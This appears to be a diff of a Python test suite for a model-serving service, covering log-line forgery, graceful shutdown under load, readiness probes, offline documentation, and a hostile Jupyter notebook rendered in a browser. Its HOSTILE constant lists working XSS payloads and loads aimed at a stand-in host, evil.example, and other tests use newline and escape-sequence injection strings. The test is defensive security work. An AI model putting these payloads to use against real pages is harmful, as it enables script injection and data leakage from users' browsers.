@@ -1,16 +1,17 @@
-"""A service as it is operated: its log of requests, traces, probes, a stop under load, and pages without internet."""
+"""A service as it is operated: its log of requests, traces, probes, the end, and pages without internet."""
 
 from __future__ import annotations
 
 import json
-import os
 import signal
 import threading
 import time
 from collections import Counter
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
 from dataclasses import replace
+from functools import partial
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
@@ -21,7 +22,6 @@ from conftest import CHROMIUM
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
 from operating import (
     BODY,
-    ROW,
     Served,
     build_delay,
     connect,
@@ -66,8 +66,8 @@ def service(
 
 
 def test_errors_are_logged_in_lines_that_nobody_forges(service: Served) -> None:
-    forged = '/x%0a{"path": "/forged", "status": 200}'
-    identity = 'order-1"}\x1b[2J'
+    forged = '/x%0a{"path":%20"/forged",%20"status":%20200}'
+    identity = 'order-1"}\x9b2J'
     assert status(service.port, "/predict", "POST", BODY) == 200
     assert status(service.port, forged, x_request_id=identity) == 404
     assert status(service.port, "/predict", "POST", b"{", x_request_id="order-2") == 400
@@ -75,7 +75,7 @@ def test_errors_are_logged_in_lines_that_nobody_forges(service: Served) -> None:
     assert [line["status"] for line in lines] == [404, 400], "a request that was answered is not among them"
     assert lines[0]["path"] == r'/x\n{"path": "/forged", "status": 200}' and "forged" not in lines[1]["path"]
     assert lines[1]["request"] == "order-2" and lines[1]["method"] == "POST" and lines[1]["bytes"] > 20
-    assert "\x1b" not in service.printed()
+    assert "\x9b" not in service.printed()
 
 
 # Probes and the end
@@ -112,12 +112,10 @@ class Load:
         closing = {} if self.keep else {"connection": "close"}
         data = head("POST", "/predict", content_length=len(BODY), **closing) + BODY
         answer = b""
-        try:
+        with suppress(OSError):
             connection.sendall(data)
             while not answer.endswith(b"}") and (part := connection.recv(1 << 16)):
                 answer += part
-        except OSError:
-            pass
         if not answer:
             self.outcomes["closed before an answer"] += 1
             return False
@@ -134,7 +132,7 @@ class Load:
 def test_a_stop_under_load_loses_no_request(
     bento: str, tmp_path: Path, free_port: Callable[[], int], keep: bool
 ) -> None:
-    """Two workers, sixteen clients: each request is answered whole or not at all, and each answer is logged."""
+    """Two workers, sixteen clients: a request is answered whole or not at all, and each answer is logged."""
     with served(bento, tmp_path, free_port(), workers=2) as service:
         load = Load(service.port, keep)
         with ThreadPoolExecutor(16) as pool:
@@ -147,39 +145,41 @@ def test_a_stop_under_load_loses_no_request(
         for client in clients:
             client.result()
     assert load.outcomes.pop("answered") == len(load.ids)
-    # A connection that waits in the system's queue, or idles, when the last worker ends was never accepted.
+    # A connection on which nothing was read yet, or that waits in the system's queue when the last worker
+    # ends, is closed without a word: nothing was begun. A client meets each of the two once at most.
     assert {*load.outcomes} <= {"refused", "closed before an answer"}, load.outcomes
-    assert load.outcomes["closed before an answer"] <= 16
+    assert load.outcomes["closed before an answer"] <= 2 * 16
     settings = replace(load_settings(tmp_path, required=False), store=tmp_path / "store")
     logged = Counter(predictions("delay", settings=settings)["id"])
     assert logged.keys() >= {*load.ids} and max(logged.values()) == 1
 
 
+def probe(port: int) -> int | str:
+    """The status of /readyz; "none" if it is not told in half a second."""
+    try:
+        return statuses(exchange(port, head("GET", "/readyz", connection="close"), 0.5))[0]
+    except (OSError, IndexError):
+        return "none"
+
+
 def test_it_is_not_ready_from_the_moment_that_it_is_told_to_end(
     bento: str, tmp_path: Path, free_port: Callable[[], int]
 ) -> None:
-    """A request is half sent when the signal comes; it is answered, and meanwhile no new one is invited."""
+    """A request is half sent when the signal comes; it is answered, and its connection is closed."""
     port = free_port()
     with served(bento, tmp_path, port) as service:
         request = head("POST", "/predict", content_length=len(BODY)) + BODY
-        with connect(port) as waiting, connect(port) as probing:
+        with connect(port) as waiting:
             waiting.sendall(request[:-10])
-            probing.sendall(head("GET", "/readyz"))
-            assert b"200 OK" in probing.recv(1 << 16)
-            wait_for(lambda: waiting.send(b"") == 0, "the request to be on its way", 5)
+            assert status(port) == 200, "which is answered after the first part of the request was read"
             (worker,) = service.workers()
             worker.send_signal(signal.SIGTERM)
-            probe = head("GET", "/readyz", connection="close")
-            # The connection is closed soon; an answer, if there still is one, says so.
-            answers = []
-            try:
-                probing.sendall(probe)
-                answers = statuses(receive_all(probing))
-            except OSError:
-                pass
-            assert answers in ([], [503], [200])
+            # Soon nobody listens any more until there is another worker.
+            seen = wait_for(lambda: (found := probe(port)) != 200 and found, "it to be not ready", 20)
+            assert seen in (503, "none")
             waiting.sendall(request[-10:])
-            assert statuses(receive_all(waiting)) == [200]
+            answer = receive_all(waiting)
+            assert statuses(answer) == [200] and b"connection: close" in answer
         wait_for(lambda: service.workers() and service.workers()[0].pid != worker.pid, "a new worker")
         wait_for(lambda: status(port) == 200, "it to be ready")
 
@@ -274,7 +274,7 @@ def browser(chromium: str) -> Iterator[Any]:
 
 
 class Visit:
-    """A page in a browser that reaches this machine's `url` alone: what it asked for, and what it complained of."""
+    """A page in a browser that reaches `url` alone: what else it asked for, and what it complained of."""
 
     def __init__(self, browser: Any, url: str) -> None:
         self.foreign: list[str] = []
@@ -310,28 +310,35 @@ def test_the_docs_are_read_and_tried_without_internet(service: Served, browser: 
     assert [line for line in visit.said if line.startswith(("error", "pageerror"))] == []
 
 
-HOSTILE = """
-<script>document.title = "owned"; fetch("https://evil.example/script")</script>
-<img src=x onerror="document.title='owned'"><img src="https://evil.example/pixel.png">
-<svg onload="document.title='owned'"><script>document.title='owned'</script></svg>
-<svg><animate onbegin="document.title='owned'" attributeName=x dur=1s></svg>
-<a id="link" href="javascript:document.title='owned'">a link</a>
+EVIL, OWN = "https://evil.example", "document.title='owned'"
+HOSTILE = f"""
+<script>{OWN}; fetch("{EVIL}/script")</script>
+<img src=x onerror="{OWN}"><img src="{EVIL}/pixel.png">
+<svg onload="{OWN}"><script>{OWN}</script></svg>
+<svg><animate onbegin="{OWN}" attributeName=x dur=1s></svg>
+<a href="javascript:{OWN}">a link</a>
 <a href="data:text/html,<script>alert(1)</script>">another</a>
-<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
-<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
-<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/style.css">
-<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/back.png) }</style>
-<form action="https://evil.example/form"><input name=a><button id="send">send</button></form>
-<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
-<video src="https://evil.example/video" autoplay onloadstart="document.title='owned'"></video>
-<div style="background: url(https://evil.example/div.png)" onmouseover="document.title='owned'">text</div>
-<math><mtext><table><mglyph><style><img src=x onerror="document.title='owned'"></style></mglyph></table></mtext></math>
-<noscript><p title="</noscript><img src=x onerror=document.title='owned'>"></noscript>
+<iframe src="{EVIL}/frame"></iframe>
+<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>
+<meta http-equiv="refresh" content="0; url={EVIL}/refresh">
+<base href="{EVIL}/"><link rel="stylesheet" href="{EVIL}/style.css">
+<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/back.png) }}</style>
+<form action="{EVIL}/form"><input name=a autofocus onfocus="{OWN}"><button>send</button></form>
+<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
+<video src="{EVIL}/video" autoplay onloadstart="{OWN}"></video>
+<div style="background: url({EVIL}/div.png)" onmouseover="{OWN}">text</div>
+<math><mtext><table><mglyph><style><img src=x onerror="{OWN}"></style></mglyph></table></mtext></math>
+<noscript><p title="</noscript><img src=x onerror={OWN}>"></noscript>
 """
 
 
+def answer_all(reply: dict[str, Any], route: Any) -> None:
+    """Answer whatever a page asks for."""
+    route.fulfill(**reply)
+
+
 def test_a_hostile_notebook_does_nothing_in_a_browser(tmp_path: Path, browser: Any) -> None:
-    """As markdown, in every kind of output, and in a traceback; under the policy and, once more, without it."""
+    """As markdown, in every kind of output, in a traceback; under the policy and once more without it."""
     kinds = {"text/html": HOSTILE, "text/markdown": HOSTILE, "image/svg+xml": HOSTILE, "text/latex": HOSTILE}
     outputs = [new_output("display_data", data={kind: text}) for kind, text in kinds.items()]
     outputs += [new_output("display_data", data={"application/javascript": "document.title = 'owned'"})]
@@ -345,10 +352,8 @@ def test_a_hostile_notebook_does_nothing_in_a_browser(tmp_path: Path, browser: A
     assert "default-src 'none'" in policy and "script-src" not in policy
     for headers in (dict(reply.headers), {"content-type": reply.headers["content-type"]}):
         visit = Visit(browser, "http://service.test/")
-        visit.page.route(
-            "http://service.test/**",
-            lambda route, headers=headers: route.fulfill(status=200, body=reply.body, headers=headers),
-        )
+        fulfill = {"status": 200, "body": reply.body, "headers": headers}
+        visit.page.route("http://service.test/**", partial(answer_all, fulfill))
         visit.page.goto("http://service.test/notebook")
         assert visit.page.get_by_role("heading", name="Training").is_visible()
         for link in visit.page.get_by_text("a link").all():
@@ -356,4 +361,3 @@ def test_a_hostile_notebook_does_nothing_in_a_browser(tmp_path: Path, browser: A
         title = visit.page.title()
         visit.page.close()
         assert visit.foreign == [] and "owned" not in title
-    SCREENSHOTS.mkdir(exist_ok=True)
